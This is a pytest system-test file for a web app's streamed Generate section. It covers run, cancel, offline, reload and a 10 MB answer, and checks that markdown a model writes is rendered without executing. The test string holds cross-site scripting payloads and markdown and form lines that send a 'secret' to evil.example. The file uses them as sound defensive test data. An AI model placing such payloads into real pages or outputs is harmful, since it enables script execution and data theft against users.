"""The page's Generate section in a real browser, on a real server."""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from engine.testing import openai_wire
from tests.system.page.driving import answering, drive
from tests.system.server_process import ServerProcess, open_server

pytestmark = pytest.mark.system

PACE = {"ANTIPHON_SIM_TOKENS_PER_S": "40", "ANTIPHON_SIM_TTFT_MS": "50"}
FILE = "generate.mjs"

MALICIOUS = """**Bold** and a [harmless link](https://example.com/) first.

<img src=x onerror="alert('image')"><script>alert('script')</script>
<svg onload="alert('svg')"><iframe srcdoc="<script>alert('frame')</script>"></iframe>
<a href="javascript:alert('link')">press</a> [press](javascript:alert('markdown'))
[data](data:text/html,<script>alert(1)</script>) ![leak](https://evil.example/?q=secret)
<form action="https://evil.example/"><input autofocus onfocus="alert('focus')"></form>
<style>body { display: none }</style>
<p style="position:fixed;inset:0" onclick="alert('click')">x</p>
<math><mtext><table><mglyph>
<style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">

```html
<script>alert('code')</script>
```
"""


@pytest.fixture
async def server(tmp_path: Path) -> AsyncIterator[ServerProcess]:
    async with open_server(tmp_path, env=PACE) as server:
        yield server


@pytest.mark.parametrize(
    ("check", "width", "scheme"),
    [
        ("run", 1440, "dark"),
        ("cancel", 375, "light"),
        ("cancelOne", 1440, "light"),
        ("offline", 375, "dark"),
        ("reload", 1440, "light"),
    ],
)
async def test_generate_section(
    server: ServerProcess, tmp_path: Path, check: str, width: int, scheme: str
) -> None:
    """Run, cancel all or one, drop the connection and see it resume, reload in mid-stream."""
    await drive(server, FILE, check, tmp_path, width=width, scheme=scheme)


async def test_text_of_a_model_does_not_execute(tmp_path: Path) -> None:
    """Markdown rendered safely: malicious text from a model must not execute."""
    async with answering(tmp_path, MALICIOUS) as server:
        await drive(server, FILE, "malicious", tmp_path, mayViolate=True)


def big_pieces(text: str) -> Iterator[str]:
    """Cut an answer so that the upstream is no bottleneck: 4,096 characters an event."""
    return (text[at : at + 4096] for at in range(0, len(text), 4096))


async def test_ten_megabytes_do_not_freeze_the_page(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A 10 MB answer must not freeze the page: long tasks are measured."""
    paragraph = "A line of words that a model could have written, **bold** now and then.\n" * 9
    text = (paragraph + "\n") * (10_000_000 // (len(paragraph) + 1) + 1)
    monkeypatch.setattr(openai_wire, "pieces", big_pieces)
    async with answering(tmp_path, text) as server:
        measured = await drive(server, FILE, "huge", tmp_path, size=9_000_000)
    assert measured["longestMs"] < 400, measured
    assert max(measured["answeredMs"]) < 2000, measured
